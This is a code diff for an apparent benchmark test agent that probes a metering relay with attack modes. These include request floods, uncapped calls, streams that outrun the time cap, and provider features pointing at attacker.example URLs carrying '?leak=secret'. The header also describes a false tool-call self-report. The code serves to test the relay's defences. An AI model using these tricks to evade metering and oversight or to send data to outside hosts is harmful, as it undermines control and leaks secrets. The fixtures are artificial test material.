@@ -28,6 +28,18 @@
  * - `foreign-api` (issue 8): an agent that speaks only APIs the relay does
  *   not meter here (`POST /v1/embeddings`, and `/v1/messages` against an
  *   OpenAI upstream), and makes no other call.
+ * - `cap-flood` (issue 21): 60 concurrent calls with `max_tokens` 1 and a
+ *   400 kB prompt each; reports how many got each status;
+ * - `uncapped-responses` (issue 21): one Responses call without
+ *   `max_output_tokens`; reports the status;
+ * - `features` (issue 21): one OpenAI call per provider feature (hosted
+ *   Responses tools, Chat `web_search_options`, provider-stored state, URLs
+ *   the provider would fetch, a data: URL); reports each status and error code;
+ * - `features-messages` (issue 21): the same for the Messages API (server
+ *   tools, `mcp_servers`, `container`, the `anthropic-beta` header), against
+ *   `$ANTHROPIC_BASE_URL`, and makes no OpenAI call;
+ * - `slow-call` (issue 21): one streamed call it waits for until the wall
+ *   cap kills it (a test's upstream streams slowly past the cap).
  *
  * Then, unless `foreign-api` ran, it makes one ordinary call (so the episode is not a zero-call one)
  * and prints `{"tool_calls": 999}` as its last stdout line, a self-report the
@@ -203,7 +215,153 @@ async function foreignApi(): Promise<void> {
   skipFinalCall = true;
 }
 
+async function capFlood(): Promise<void> {
+  const prompt = "x".repeat(400_000);
+  const statuses = await Promise.all(
+    Array.from({ length: 60 }, () => post({ max_tokens: 1 }, prompt)),
+  );
+  const counts: Record<string, number> = {};
+  for (const status of statuses) counts[String(status)] = (counts[String(status)] ?? 0) + 1;
+  report["cap-flood"] = counts;
+}
+
+async function uncappedResponses(): Promise<void> {
+  report["uncapped-responses"] = {
+    status: await attempt("/v1/responses", {
+      method: "POST",
+      headers: { "content-type": "application/json" },
+      body: JSON.stringify({ model: Deno.env.get("LEDGERBENCH_MODEL"), input: "attack" }),
+    }),
+  };
+}
+
+/** A request's status and the error code of its answer (null: none). */
+async function codeOf(
+  url: string,
+  body: Record<string, unknown>,
+  headers: Record<string, string> = {},
+): Promise<string> {
+  try {
+    const response = await fetch(url, {
+      method: "POST",
+      headers: { "content-type": "application/json", ...headers },
+      body: JSON.stringify(body),
+    });
+    const text = await response.text();
+    let code: unknown = null;
+    try {
+      const parsed = JSON.parse(text);
+      code = parsed?.error?.code ?? parsed?.error?.details?.error_code ?? null;
+    } catch {
+      // a stream or a non-JSON answer
+    }
+    return `${response.status} ${code ?? "-"}`;
+  } catch (error) {
+    return errorText(error);
+  }
+}
+
+const ATTACKER = "https://attacker.example";
+
+async function features(): Promise<void> {
+  const model = Deno.env.get("LEDGERBENCH_MODEL");
+  const responses = (extra: Record<string, unknown>) =>
+    codeOf(`${base()}/responses`, { model, input: "attack", max_output_tokens: 16, ...extra });
+  const chatWith = (extra: Record<string, unknown>, content: unknown = "attack") =>
+    codeOf(`${base()}/chat/completions`, {
+      model,
+      max_tokens: 16,
+      messages: [{ role: "user", content }],
+      ...extra,
+    });
+  const tool = (tool: Record<string, unknown>) => responses({ tools: [tool] });
+  report.features = {
+    web_search: await tool({ type: "web_search" }),
+    web_search_preview: await tool({ type: "web_search_preview" }),
+    file_search: await tool({ type: "file_search", vector_store_ids: ["vs_1"] }),
+    code_interpreter: await tool({ type: "code_interpreter", container: { type: "auto" } }),
+    image_generation: await tool({ type: "image_generation" }),
+    mcp: await tool({ type: "mcp", server_label: "x", server_url: `${ATTACKER}/mcp` }),
+    web_search_options: await chatWith({ web_search_options: {} }),
+    store: await responses({ store: true }),
+    previous_response_id: await responses({ previous_response_id: "resp_123" }),
+    conversation: await responses({ conversation: "conv_123" }),
+    prompt: await responses({ prompt: { id: "pmpt_123" } }),
+    image_url: await chatWith({}, [
+      { type: "text", text: "see" },
+      { type: "image_url", image_url: { url: `${ATTACKER}/a.png?leak=secret` } },
+    ]),
+    input_file: await responses({
+      input: [{
+        role: "user",
+        content: [{ type: "input_file", file_url: `${ATTACKER}/f.pdf` }],
+      }],
+    }),
+    input_image: await responses({
+      input: [{
+        role: "user",
+        content: [{ type: "input_image", image_url: `${ATTACKER}/i.png?leak=secret` }],
+      }],
+    }),
+    data_url: await chatWith({}, [
+      { type: "image_url", image_url: { url: "data:image/png;base64,iVBORw0KGgo=" } },
+    ]),
+  };
+}
+
+async function featuresMessages(): Promise<void> {
+  const url = Deno.env.get("ANTHROPIC_BASE_URL")?.replace(/\/+$/, "");
+  if (!url) throw new Error('Cannot attack: "ANTHROPIC_BASE_URL" is not set');
+  const model = Deno.env.get("LEDGERBENCH_MODEL");
+  const headers = { "anthropic-version": "2023-06-01", "x-api-key": "sandbox" };
+  const messages = (extra: Record<string, unknown>, more: Record<string, string> = {}) =>
+    codeOf(`${url}/v1/messages`, {
+      model,
+      max_tokens: 16,
+      messages: [{ role: "user", content: "attack" }],
+      ...extra,
+    }, { ...headers, ...more });
+  report["features-messages"] = {
+    web_search: await messages({
+      tools: [{ type: "web_search_20250305", name: "web_search", max_uses: 5 }],
+    }),
+    web_fetch: await messages(
+      { tools: [{ type: "web_fetch_20250910", name: "web_fetch" }] },
+      { "anthropic-beta": "web-fetch-2025-09-10" },
+    ),
+    code_execution: await messages(
+      { tools: [{ type: "code_execution_20250825", name: "code_execution" }] },
+      { "anthropic-beta": "code-execution-2025-08-25" },
+    ),
+    mcp_servers: await messages(
+      { mcp_servers: [{ type: "url", url: `${ATTACKER}/mcp`, name: "x" }] },
+      { "anthropic-beta": "mcp-client-2025-04-04" },
+    ),
+    container: await messages({ container: "container_123" }),
+    beta_header: await messages({}, { "anthropic-beta": "files-api-2025-04-14" }),
+    plain: await messages({}),
+  };
+  skipFinalCall = true;
+}
+
+async function slowCall(): Promise<void> {
+  report["slow-call"] = { started: true };
+  await Deno.writeTextFile(REPORT, JSON.stringify(report, null, 2) + "\n");
+  const response = await fetch(`${base()}/chat/completions`, {
+    method: "POST",
+    headers: { "content-type": "application/json" },
+    body: chatBody({ stream: true }),
+  });
+  report["slow-call"] = { status: response.status, body: await response.text() };
+  skipFinalCall = true;
+}
+
 const ATTACKS: Record<string, () => Promise<void>> = {
+  "cap-flood": capFlood,
+  "uncapped-responses": uncappedResponses,
+  features,
+  "features-messages": featuresMessages,
+  "slow-call": slowCall,
   "big-body": bigBody,
   paths,
   idle,
